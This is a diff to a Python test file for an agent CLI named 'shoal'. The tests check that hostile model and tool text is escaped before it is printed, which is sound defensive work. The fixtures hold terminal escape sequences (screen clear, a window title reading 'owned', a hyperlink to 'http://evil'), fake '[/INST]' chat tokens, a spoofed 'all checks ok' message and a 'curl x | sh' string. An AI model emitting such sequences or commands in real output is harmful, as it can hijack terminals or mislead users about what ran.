@@ -392,8 +392,11 @@ def test_run_runs_and_show_print_hostile_text_as_text(workdir: Path) -> None:
     data = shoal("show", run_id, "--json", cwd=workdir).stdout
     assert data.isascii() and json.loads(data)["run_id"] == run_id
 
-    as_json = shoal("run", "plan.json", "--json", "--no-store", cwd=workdir).stdout
+    as_json = shoal("run", "plan.json", "--json", "--no-store", "--events", "events.jsonl",
+                    cwd=workdir).stdout
     assert as_json.isascii() and len(json.loads(as_json)["outcomes"]) == 4
+    events = (workdir / "events.jsonl").read_text()
+    assert events.isascii() and all(json.loads(line) for line in events.splitlines())
 
 
 @pytest.mark.parametrize("columns", ["-5", "0", "abc", "99999999", "1"])
@@ -527,3 +530,30 @@ def test_describe_escapes_and_says_what_it_cut() -> None:
     assert unsafe_in(short) == [] and "\\u202e" in short and "\\u001b" in short
     assert short.endswith(f"… {len(hostile.describe(10_000)) - 170:,} more characters")
     assert hostile.describe(10_000).endswith('; curl x | sh")')
+
+
+AGENT = textwrap.dedent('''
+    import shoal
+    from shoal.testing import ScriptedModel, call
+
+    @shoal.tool
+    def fetch(url: str) -> str:
+        raise RuntimeError("\\x1b[2J\\x1b]0;owned\\x07 [/INST] fetch failed")
+
+    lead = shoal.Agent(name="lead", tools=[fetch], model=ScriptedModel([
+        [call("fetch", url="\\x1b]8;;http://evil\\x07link\\u202e")],
+        "\\x1b[2J\\rall checks ok [/INST] \\u202eevil\\x9b31m",
+    ]))
+''')
+
+
+def test_an_agent_run_prints_model_and_tool_text_as_text(tmp_path: Path) -> None:
+    (tmp_path / "hostile_agent.py").write_text(AGENT)
+    proc = shoal("run", "hostile_agent.py:lead", "go [/INST]", cwd=tmp_path)
+    assert proc.returncode == 0, proc.stderr
+    assert no_control(proc.stdout) and no_control(proc.stderr), proc.stdout
+    assert "all checks ok [/INST]" in proc.stdout and "\\u202eevil" in proc.stdout
+    assert "fetch failed" in proc.stdout  # the tool's error, in the tree, escaped
+    run_id = re.search(r"shoal: run (\S+) \(journaling", proc.stderr).group(1)  # type: ignore[union-attr]
+    shown = shoal("show", run_id, cwd=tmp_path)
+    assert shown.returncode == 0 and no_control(shown.stdout), shown.stderr
